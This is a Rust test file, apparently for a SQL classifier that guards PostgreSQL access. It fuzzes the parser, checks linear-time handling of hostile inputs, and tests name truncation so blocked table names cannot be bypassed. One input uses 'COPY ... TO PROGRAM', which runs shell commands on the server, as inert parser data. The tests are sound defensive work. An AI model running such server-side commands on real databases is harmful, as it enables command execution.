    assert_eq!(s.tables.len(), MAX_TABLES);
    assert_eq!(s.tables[0], "t0");
    // PostgreSQL truncates names to 63 bytes: so do we, or a long alias of a blocked name slips by.
    let long = format!("secret_{}", "x".repeat(100));
    let s = only(&format!("select * from {long}"));
    assert_eq!(s.tables, vec![long[..63].to_string()]);
    let s = only(&format!("select * from \"{}\"", "é".repeat(40)));
    assert_eq!(s.tables, vec!["é".repeat(31)]);
}

#[test]
fn classifies_multi_statement_kinds_separately() {
    let v = classify("begin; update t set a = 1 where id = 1; commit");
    let ks: Vec<KindSet> = v.iter().map(|s| s.kinds).collect();
    assert_eq!(
        ks,
        vec![
            KindSet::one(K::Transaction),
            KindSet::one(K::Update),
            KindSet::one(K::Transaction)
        ]
    );
    let v = classify("select 1; select 'x'; delete from t");
    assert_eq!(v.len(), 3);
    assert_eq!(v[2].flags, Flags::NO_WHERE);
}

/// xorshift64*: deterministic, no dependencies.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(n).unwrap_or(1)).unwrap_or(0)
    }
}

#[test]
fn never_panics_on_random_and_garbled_inputs() {
    const PIECES: &[&str] = &[
        "select",
        "from",
        "where",
        "with",
        "as",
        "(",
        ")",
        ";",
        ",",
        ".",
        "'",
        "''",
        "\"",
        "$$",
        "$a$",
        "$1",
        "E'",
        "U&'",
        "U&\"",
        "uescape",
        "B'",
        "X'",
        "/*",
        "*/",
        "--",
        "\n",
        " ",
        "\\",
        "delete",
        "insert",
        "into",
        "update",
        "set",
        "explain",
        "analyze",
        "prepare",
        "execute",
        "copy",
        "to",
        "program",
        "create",
        "table",
        "begin",
        "atomic",
        "end",
        "case",
        "function",
        "é",
        "\u{a0}",
        "set_config",
        "for",
        "join",
        "using",
        "only",
        "*",
        "0",
        "1.5e",
        "x",
        "\0",
        "::",
        "[",
        "]",
        "deallocate",
        "all",
    ];
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        let n = rng.below(40);
        let mut s = String::new();
        for _ in 0..n {
            if rng.below(4) == 0 {
                // a random char, sometimes multibyte
                let c =
                    char::from_u32(u32::try_from(rng.below(0x3000)).unwrap_or(0)).unwrap_or('?');
                s.push(c);
            } else {
                s.push_str(PIECES[rng.below(PIECES.len())]);
                if rng.below(2) == 0 {
                    s.push(' ');
                }
            }
        }
        let v = classify(&s);
        assert!(!v.is_empty());
        for st in &v {
            assert!(
                st.span.start <= st.span.end && st.span.end <= s.len(),
                "{s:?}"
            );
            assert!(
                s.get(st.span.clone()).is_some(),
                "span not on char boundary: {s:?}"
            );
            assert!(
                !st.kinds.is_empty() || matches!(st.prepared, Some(PreparedRef::Execute(_))),
                "{s:?}"
            );
        }
    }
    // Random bytes made valid UTF-8.
    for _ in 0..5_000 {
        let n = rng.below(64);
        let bytes: Vec<u8> = (0..n)
            .map(|_| u8::try_from(rng.below(256)).unwrap_or(0))
            .collect();
        let s = String::from_utf8_lossy(&bytes);
        let _ = classify(&s);
    }
}

#[test]
#[ignore = "rough timing, run with --ignored --nocapture in release"]
fn timing_of_short_statements() {
    let stmts = [
        "SELECT abalance FROM pgbench_accounts WHERE aid = $1;",
        "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP);",
    ];
    for sql in stmts {
        let n = 200_000u32;
        let t = std::time::Instant::now();
        for _ in 0..n {
            std::hint::black_box(classify(std::hint::black_box(sql)));
        }
        println!(
            "{:>8.0} ns  {sql}",
            t.elapsed().as_nanos() as f64 / f64::from(n)
        );
    }
}

#[test]
fn classifies_hostile_sizes_in_linear_time() {
    // A huge dollar tag that never closes, over content full of near-misses: linear, not quadratic.
    let tag = "a".repeat(100_000);
    let sql = format!("select ${tag}$ {} ", format!("${}b", &tag[1..]).repeat(3));
    assert_eq!(only(&sql).kinds, KindSet::one(K::Unknown));
    let sql = format!("select ${tag}$ x ${tag}$ from t");
    assert_eq!(only(&sql).kinds, KindSet::one(K::Select));
    // Many statements, many tables, long comments.
    let sql = "select 1 from t where a = 'x'; ".repeat(20_000);
    assert_eq!(classify(&sql).len(), 20_000);
    let sql = format!(
        "select 1 /*{}*/",
        "/*".repeat(50_000) + &"*/".repeat(50_000)
    );
    assert_eq!(only(&sql).kinds, KindSet::one(K::Select));
}

#[test]
fn classifies_nested_subqueries_up_to_the_depth_cap() {
    let n = MAX_DEPTH - 2;
    let sql = format!(
        "select * from {}select * from t{}",
        "(".repeat(n).replace('(', "(select * from "),
        ")".repeat(n)
    );
    let s = only(&sql);
    assert_eq!(s.kinds, KindSet::one(K::Select), "{s:?}");
    assert_eq!(s.tables, vec!["t".to_string()]);
}

#[test]
fn never_panics_on_any_prefix_of_tricky_queries() {
    let queries = [
        "WITH d AS (DELETE FROM \"T\" RETURNING *) SELECT U&\"x\\0041\" UESCAPE '\\', E'\\'', $q$;$q$ FROM d; -- x",
        "EXPLAIN (ANALYZE off, FORMAT json) COPY (SELECT 1) TO PROGRAM 'x'; /* /* */ */ SET ROLE 'a'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN 1 THEN 2 END; END; é\u{a0}",
        "PREPARE p(int) AS UPDATE ONLY s.t SET a = $1 FROM u WHERE CURRENT OF c; EXECUTE p(1); DEALLOCATE p",
    ];
    for q in queries {
        for (i, _) in q.char_indices() {
            let v = classify(&q[..i]);
            assert!(!v.is_empty());
        }
    }
}

/// `classify` keeps its token buffer on the thread between statements: what one statement left
/// in it must not change the next one's result, and a huge statement's buffer is let go.
#[test]
fn the_kept_token_buffer_changes_no_result() {
    let statements = [
        "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
        "update t set a = (select max(b) from u where u.c = t.c); delete from v",
        "",
        "SELECT 1; SELECT 'unterminated",
        "insert into a select * from b",
        "x",
    ];
    let fresh: Vec<Vec<Statement>> = statements
        .iter()
        .map(|s| classify_with(s, &mut Vec::new()))
        .collect();
    // Every order of two, so each statement follows a longer and a shorter one.
    for (i, a) in statements.iter().enumerate() {
        for (j, b) in statements.iter().enumerate() {
            assert_eq!(classify(a), fresh[i], "{a:?} after {b:?}");
            assert_eq!(classify(b), fresh[j], "{b:?} after {a:?}");
        }
    }
    let huge = "select a, ".repeat(MAX_KEPT_TOKENS) + "b from t";
    assert_eq!(classify(&huge), classify_with(&huge, &mut Vec::new()));
    TOKENS.with(|cell| assert!(cell.borrow().capacity() <= MAX_KEPT_TOKENS));
    classify(statements[0]);
    TOKENS.with(|cell| assert!(cell.borrow().capacity() > 0));
}
